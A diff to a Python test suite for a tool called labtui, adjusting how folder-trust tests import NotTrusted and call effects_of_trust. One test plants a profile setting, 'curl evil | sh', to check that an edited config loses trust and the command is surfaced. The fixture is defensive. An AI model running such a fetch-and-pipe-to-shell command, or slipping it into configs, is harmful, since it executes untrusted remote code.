@@ -14,7 +14,7 @@ from labtui.cluster import local_files
 from labtui.cluster.local_files import open_inside, read_inside, stat_inside, write_export, write_inside
 from labtui.commands.cli import main
 from labtui.commands.terminal import ask_trust
-from labtui.domain.errors import DataError, ExportError, FolderError, StoreError, UsageError
+from labtui.domain.errors import DataError, ExportError, FolderError, NotTrusted, StoreError, UsageError
 from labtui.session import settings as trusting
 from labtui.session.folder import LabFolder, find_folder
 from labtui.session.labs import load_edition, open_answers, read_answers
@@ -63,10 +63,10 @@ def test_nothing_is_asked_sent_or_written_before_trust(received, bench, monkeypa
     calls = len(bench.cluster.calls)
     monkeypatch.setattr("labtui.session.lab_cluster.connection_to", lambda *_: bench.cluster)
     with Session.open(received) as session:
-        assert isinstance(session.why_read_only, trusting.NotTrusted)
+        assert isinstance(session.why_read_only, NotTrusted)
         assert len(session.state.submissions) == 2
         for change, of in ("submit", draft()), ("cancel", 1), ("hold", 1), ("test_only", draft()):
-            with pytest.raises(trusting.NotTrusted, match="not trusted"):
+            with pytest.raises(NotTrusted, match="not trusted"):
                 getattr(session, change)(of)
         session.refresh()
     assert len(bench.cluster.calls) == calls and tree(received) == before
@@ -132,7 +132,7 @@ def test_trust_is_of_a_folder_as_it_was(lab_path, tmp_path):
         ask_trust(lab_path, given=True)
     profile.write_text(f'quota_command = "curl evil | sh"\n{text}')
     why = check_trust(lab_path)
-    assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(why.path))
+    assert why is not None and any("curl evil | sh" in line for line in effects_of_trust(lab_path))
     trust(lab_path)
     assert check_trust(lab_path) is None
     trusting.forget(lab_path)
@@ -309,7 +309,7 @@ def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatc
     wanted = changed(read_settings(received / "lab.toml"), **at, identity="~/key")
     write_settings(received / "lab.toml", wanted)
     monkeypatch.setattr(sys, "stdin", TextTerminal("n\n"))
-    assert isinstance(ask_trust(received, given=False), trusting.NotTrusted)
+    assert isinstance(ask_trust(received, given=False), NotTrusted)
     assert check_trust(received) is not None
     shown = " ".join(capsys.readouterr().err.split())
     assert shown.count("Trust this folder?") == 1
@@ -322,7 +322,7 @@ def test_one_question_says_where_as_whom_and_what(received, tmp_path, monkeypatc
         assert words in shown, shown
     (received / "labtui.db").write_bytes(b"no database")
     why = check_trust(received)
-    assert why is not None and any("is not known: " in line for line in effects_of_trust(why.path))
+    assert why is not None and any("is not known: " in line for line in effects_of_trust(received))
     monkeypatch.setattr(sys, "stdin", TextTerminal("y\n"))
     assert ask_trust(received, given=False) is None and check_trust(received) is None
     assert ask_trust(received, given=False) is None, "it is asked once"
